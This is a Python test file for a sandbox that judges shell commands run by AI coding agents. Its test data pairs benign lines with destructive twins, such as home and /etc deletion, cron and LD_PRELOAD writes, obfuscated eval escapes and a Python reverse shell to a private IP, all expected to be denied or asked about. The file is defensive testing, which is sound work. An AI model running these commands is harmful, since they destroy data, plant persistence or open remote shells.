"""False positives of issue #23 seen with real agents, each with its destructive twin, judged in jail semantics
(`shelljail check`: the jail's own home) and in hook semantics (the real home, home_binds None).

Pure: strings judged, nothing run; but for the system script of item 1, which only a jail's decision service
sees (marked `jail`)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from conftest import JUDGE_HOME, JUDGE_WORKSPACE, Jail, guarded, judge_policy

from interposer.judge import Decision, decide
from jail.errors import EXIT_NOT_EXECUTABLE

STOPPED = ("deny", "ask")
SEMANTICS = {"jail": (JUDGE_HOME,), "hook": None}  # home_binds: the jail binds something of the home; the hook none


def judged(line: str, semantics: str) -> Decision:
    policy = judge_policy(home_binds=SEMANTICS[semantics])
    return decide(line, JUDGE_WORKSPACE, policy)  # type: ignore[arg-type]


both = pytest.mark.parametrize("semantics", sorted(SEMANTICS))


# -- 2. a function that runs its arguments ("$@"): Codex's shell snapshot ------------------------------------

FUNCTIONS = [
    ('f() { "$@"; }; f git status', 'f() { "$@"; }; f rm -rf ~'),
    ('run() { echo "+ $*"; "$@"; }; run ls -la', 'run() { echo "+ $*"; "$@"; }; run rm -rf /etc'),
    ('g() { "$@"; }; f() { g "$@"; }; f git log', 'g() { "$@"; }; f() { g "$@"; }; f rm -rf ~'),
    ('f() { $@; }; f git diff', 'f() { $@; }; f "rm -rf" ~'),
    ('quiet() { "$@" > /dev/null 2>&1; }; quiet make', 'quiet() { "$@" > /dev/null 2>&1; }; quiet rm -rf ~'),
    # a builtin between the function and its arguments runs them just the same
    ('f() { command "$@"; }; f git status', 'f() { command "$@"; }; f rm -rf ~'),
    ('f() { builtin "$@"; }; f echo hi', 'f() { builtin "$@"; }; f rm -rf ~'),
    ('f() { exec "$@"; }; f git status', 'f() { exec "$@"; }; f rm -rf ~'),
    ('f() { exec -a x "$@"; }; f git status', 'f() { exec -a x "$@"; }; f rm -rf ~'),
    ('f() { env "$@"; }; f git status', 'f() { env "$@"; }; f rm -rf ~'),
    ('f() { env LC_ALL=C "$@"; }; f git status', 'f() { env LC_ALL=C "$@"; }; f rm -rf /etc'),
    ('f() { nohup "$@"; }; f make', 'f() { time "$@"; }; f rm -rf ~'),
    ('f() { "${@}"; }; f git status', 'f() { "${@}"; }; f rm -rf ~'),
    ('f() { $@; }; f git status', 'f() { $@; }; f rm -rf ~'),
    ('f() { "$1" "${@:2}"; }; f git status', 'f() { "$1" "${@:2}"; }; f rm -rf ~'),
    ('f() { "${@:2}"; }; f x git status', 'f() { "${@:2}"; }; f x rm -rf ~'),
    ('f() { "${@:1:2}" -la; }; f ls', 'f() { "${@:1:2}" ~; }; f rm -rf'),
    ('g() { command "$@"; }; f() { g "$@"; }; f git log', 'g() { command "$@"; }; f() { g "$@"; }; f rm -rf ~'),
    ('f() { set -e; "$@"; }; f git status', 'f() { set -o pipefail; "$@"; }; f rm -rf ~'),
    # the shape `declare -f` prints a function in (Codex's and Claude Code's shell snapshots)
    ('run () \n{ \n    command "$@"\n}\nrun git status', 'run () \n{ \n    command "$@"\n}\nrun rm -rf ~'),
]


@both
@pytest.mark.parametrize("benign, destructive", FUNCTIONS, ids=[b for b, _ in FUNCTIONS])
def test_a_function_running_its_arguments_is_judged_at_each_call(semantics: str, benign: str,
                                                                 destructive: str) -> None:
    assert judged(benign, semantics).decision == "allow", benign
    decision = judged(destructive, semantics)
    assert decision.decision == "deny" and decision.rule.startswith("delete-"), (destructive, decision)


@both
@pytest.mark.parametrize("line", [
    'f() { "$@"; }',  # never called here: what it runs is unknown
    'f() { "$@"; }; f git status; eval "f rm -rf ~"',  # a call this walk does not see the arguments of
    "f() { \"$@\"; }; f git status; eval $'\\x66 rm -rf ~'",  # ... however the name is spelt
    'f() { "$@"; }; trap f EXIT; f ls',
    'f() { "$@"; }; export -f f; f ls; bash -c "f rm -rf ~"',
    'f() { "$@"; }; f $CMD',
    'f() { command "$@"; }; f $CMD',
    'f() { command "$@"; }',
    'f() { command "$@"; }; f ls; eval "f rm -rf ~"',
    'f() { shift; "$@"; }; f x git status',  # after shift (or set --) the arguments are unknown: asked
    'f() { set -- rm -rf ~; "$@"; }; f git status',
    'f() { "${@:0}"; }; f git status',  # $0 is the shell's name
    'f() { eval shift; "$@"; }; f true rm -rf ~',  # eval, source and trap run lines in the function's shell
    'f() { builtin eval "set -- a"; "$@"; }; f true rm -rf ~',
    'f() { . ./x; "$@"; }; f true rm -rf ~',
    'f() { source ./x; "$@"; }; f true rm -rf ~',
    'g() { :; }; f() { trap shift RETURN; g; "$@"; }; f true rm -rf ~',
    'f() { "$2" -rf "$3"; }; f $X echo rm ~',  # $X may be no word or several: which one is $2 is unknown
    'f() { "$2" -rf "$3"; }; f * echo rm ~',
    'f() { "${@:3}"; }; f $X echo rm -rf ~',
])
def test_a_function_called_where_its_arguments_are_unseen_stays_opaque(semantics: str, line: str) -> None:
    decision = judged(line, semantics)
    assert decision.decision in STOPPED, (line, decision)


@both
@pytest.mark.parametrize("line, reason", [
    ('f() { "$@"; f "$@"; }; f git log', "the function f calls itself"),
    ('f() { command "$@"; f "$@"; }; f git log', "the function f calls itself"),
    ('a() { "$@"; }; b() { a "$@"; }; c() { b "$@"; }; d() { c "$@"; }; e() { d "$@"; }; e git log',
     "functions call functions more than 4 deep"),
])
def test_a_function_running_its_arguments_is_followed_to_a_bound(semantics: str, line: str, reason: str) -> None:
    decision = judged(line, semantics)
    assert decision.decision == "ask" and any(r.startswith(reason) for r in decision.opaque_reasons), decision
    destructive = judged(line.replace("git log", "rm -rf ~"), semantics).decision
    assert destructive == ("ask" if "deep" in reason else "deny")  # recursion: the first call was judged


@pytest.mark.jail
def test_a_function_running_its_arguments_in_a_real_jail(jail: Jail) -> None:
    result = jail.run("/bin/bash", "-c", guarded('f() { command "$@"; }; g() { f "$@"; }; g echo ran'),
                      interposer=True)
    assert result.returncode == 0 and result.stdout == "ran\n", result.stderr
    (jail.workspace / "keep").write_text("x")
    result = jail.run("/bin/bash", "-c", guarded('f() { command "$@"; }; f rm -rf /etc ./keep'), interposer=True)
    assert result.returncode == 126 and "/etc" in result.stderr, (result.returncode, result.stderr)
    assert (jail.workspace / "keep").exists()


# -- 3. python -c read with `ast`: judged by its calls, as the equivalent commands ----------------------------

PYTHON = [
    ("""python3 -c "import json,sys; print(json.load(sys.stdin)['version'])" < package.json""",
     """python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"""", "delete-home"),
    ("""python3 -c "import subprocess; subprocess.run(['git', 'status'], check=True)\"""",
     """python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/etc'])\"""", "delete-outside-workspace"),
    ("""python -c "from pathlib import Path; print(Path('setup.py').read_text())\"""",
     """python -c "from pathlib import Path; (Path.home() / '.bashrc').write_text('x')\"""",
     "write-outside-workspace"),
    ("""python3 -c "open('out.txt', 'w').write('x')\"""",
     """python3 -c "open('/etc/cron.d/job', 'w').write('x')\"""", "write-outside-workspace"),
    ("""python3 -c "import os; os.makedirs('build/x', exist_ok=True); print(os.getcwd())\"""",
     """python3 -c "import os; os.remove('/etc/passwd')\"""", "delete-outside-workspace"),
    ("""python3 -c "import os; os.system('ls -la')\"""", """python3 -c "import os; os.system('rm -rf ~')\"""",
     "delete-home"),
    ("""python3 -Ic "import sys; print(sys.version)\"""", """python3 -Ic "import os; os.system('rm -rf ~')\"""",
     "delete-home"),  # short options bundle: -Ic was not read as code at all before
    ("""python3 -c "import torch; print(torch.cuda.is_available())\"""",  # in the hook: asked, a module unread
     """python3 -c "import torch, os; os.system('rm -rf ~')\"""", "delete-home"),  # what is read is judged
]


@both
@pytest.mark.parametrize("benign, destructive, rule", PYTHON, ids=[b for b, _, _ in PYTHON])
def test_python_c_is_judged_by_its_calls(semantics: str, benign: str, destructive: str, rule: str) -> None:
    unread_module = "torch" in benign and semantics == "hook"
    assert judged(benign, semantics).decision == ("ask" if unread_module else "allow"), benign
    decision = judged(destructive, semantics)
    assert (decision.decision, decision.rule) == ("deny", rule), (destructive, decision)


@both
@pytest.mark.parametrize("line", [
    """python3 -c "exec('import os; os.system(\\"rm -rf ~\\")')\"""",
    """python3 -c "getattr(__import__('os'), 'system')('id')\"""",
    """python3 -c "import os; f = os.remove; f('/etc/passwd')\"""",
    """python3 -c "().__class__.__base__.__subclasses__()\"""",
    """python3 -c "import importlib; importlib.import_module('os').system('id')\"""",
    """python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])" ~""",
    """python3 -c "import sys,socket,pty; s=socket.socket(); s.connect(('10.0.0.1', 4444)); pty.spawn('sh')\"""",
    """python3 -c "import subprocess, sys; subprocess.run(sys.argv[1:])" rm -rf ~""",
    """python3 -c "$CODE\"""",
    """python3 -c "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'; os.system('ls')\"""",
    """python3 -c "import functools; functools.partial(open, '/etc/cron.d/job', 'w')()\"""",
    """python3 -c "import os; os.chdir('/'); os.remove('etc/passwd')\"""",
])
def test_python_c_built_at_run_time_or_escaping_is_asked(semantics: str, line: str) -> None:
    decision = judged(line, semantics)
    assert decision.decision in STOPPED and decision.opaque, (line, decision)


def test_the_reading_is_bounded() -> None:
    from interposer import pycode

    assert pycode.read("x = 1\n" * (pycode.MAX_SOURCE // 6 + 1), "/home/user").unread is not None
    assert "syntax nodes" in (pycode.read("x = [" + "1, " * pycode.MAX_NODES + "]", "/home/user").unread or "")
    assert pycode.read("(" * 500 + ")" * 500, "/home/user").unread is not None  # too deep for the parser
    assert pycode.read("print(1)", "/home/user") == pycode.Reading(())


# -- 4. confined by the jail anyway: no question in a jail, asked by the hook ---------------------------------

CONFINED = [
    """python3 -c "import torch; print(torch.__version__)\"""",
    """python3 -c "import numpy as np; print(np.zeros(3))\"""",
    """node -e "console.log(process.version)\"""",
    """node -pe "JSON.parse(require('fs').readFileSync('package.json')).version\"""",
    "PYTHONPATH=src python -m pytest -q",
    'pkill -f "next dev"',
    "kill $(pgrep -f vite)",
]
NOT_CONFINED = [  # their twins: a program started, the network, a deletion, another variable: asked everywhere
    """python3 -c "import torch, subprocess; subprocess.run(sys.argv)\"""",
    """node -e "require('child_process').execSync('rm -rf ~')\"""",
    """node -e "require('fs').rmSync(require('os').homedir(), {recursive: true})\"""",
    """node -e "require('child_' + 'process').execSync('id')\"""",
    """node -e "require('http').get('http://10.0.0.1/x')\"""",
    "PYTHONPATH=src LD_PRELOAD=/tmp/x.so python -m pytest -q",
    "killall5 -9",
]


@pytest.mark.parametrize("line", CONFINED)
def test_what_the_jail_confines_runs_in_the_jail_and_is_asked_by_the_hook(line: str) -> None:
    assert judged(line, "jail").decision == "allow", (line, judged(line, "jail"))
    assert judged(line, "hook").decision == "ask", line


@both
@pytest.mark.parametrize("line", NOT_CONFINED)
def test_what_the_jail_does_not_confine_is_asked_everywhere(semantics: str, line: str) -> None:
    assert judged(line, semantics).decision in STOPPED, line


def test_a_rule_where_is_checked(tmp_path) -> None:  # noqa: ANN001 - pytest's tmp_path
    from jail.errors import ProfileError
    from jail.policy import profile

    path = tmp_path / "mine.toml"
    path.write_text('extends = "coding-agent"\n[[interposer.rules]]\nid = "x"\ncommand = ["x"]\n'
                    'where = ["outside"]\ndecision = "ask"\nreason = "r"\n')
    with pytest.raises(ProfileError) as raised:
        profile.load(str(path))
    assert "jail or host" in str(raised.value)


# -- 1. a script on the jail's read-only system mounts is judged as the program it is ------------------------

LSB_RELEASE = Path("/usr/bin/lsb_release")


def _system_script(path: Path) -> None:
    if not path.is_file() or not path.read_bytes().startswith(b"#!/bin/sh"):
        pytest.skip(f"this machine has no {path} shell script to run in the jail")


@pytest.mark.jail
def test_a_system_script_is_judged_by_its_name_and_arguments(jail: Jail) -> None:
    _system_script(LSB_RELEASE)
    assert b"eval" in LSB_RELEASE.read_bytes()  # what made its body opaque
    result = jail.run("lsb_release", "-a", interposer=True)
    assert result.returncode == 0 and "Distributor ID" in result.stdout, result.stderr
    (jail.workspace / "lsb").symlink_to(LSB_RELEASE)  # the system's file, reached by another name
    result = jail.run("bash", "-c", "./lsb -i", interposer=True)
    assert result.returncode == 0 and "Distributor ID" in result.stdout, result.stderr


@pytest.mark.jail
@pytest.mark.parametrize("mode", ["read-write", "read-only"])
def test_the_same_script_elsewhere_is_judged_by_its_body(jail: Jail, mode: str) -> None:
    _system_script(LSB_RELEASE)
    copy = jail.workspace / "lsb"
    shutil.copy(LSB_RELEASE, copy)  # a read-only workspace is read-only, but not the system's
    result = jail.run("./lsb", "-a", options=("--workspace-mode", mode), interposer=True)
    assert result.returncode == EXIT_NOT_EXECUTABLE and "eval" in result.stderr, (result.returncode, result.stderr)


@pytest.mark.jail
def test_a_system_script_with_a_refused_form_is_refused(jail: Jail) -> None:
    gcore = Path("/usr/bin/gcore")
    if not gcore.is_file() or not gcore.read_bytes().startswith(b"#!"):
        pytest.skip("this machine has no /usr/bin/gcore script (gdb)")
    result = jail.run("gcore", "1", interposer=True)  # judged as `/usr/bin/gcore 1`: rule dump-process-memory
    assert result.returncode == EXIT_NOT_EXECUTABLE and "memory" in result.stderr, result.stderr


# -- through the real Claude Code hook (host semantics) --------------------------------------------------------

@pytest.mark.parametrize("line, stopped", [
    ('f() { "$@"; }; f git status', False), ('f() { "$@"; }; f rm -rf ~', True),
    ("""python3 -c "import json; print(json.dumps({'a': 1}))\"""", False),
    ("""python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"""", True),
    ('pkill -f "next dev"', True), ("PYTHONPATH=src python -m pytest -q", True),
])
def test_the_claude_code_hook_agrees(tmp_path: Path, line: str, stopped: bool) -> None:
    from interposer import hooks

    event = json.dumps({"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
                        "tool_input": {"command": line}, "cwd": str(tmp_path)})
    answer = hooks.claude_code(event, "coding-agent", str(tmp_path))
    if stopped:
        assert answer is not None and answer["hookSpecificOutput"]["permissionDecision"] in STOPPED, line
    else:
        assert answer is None, (line, answer)
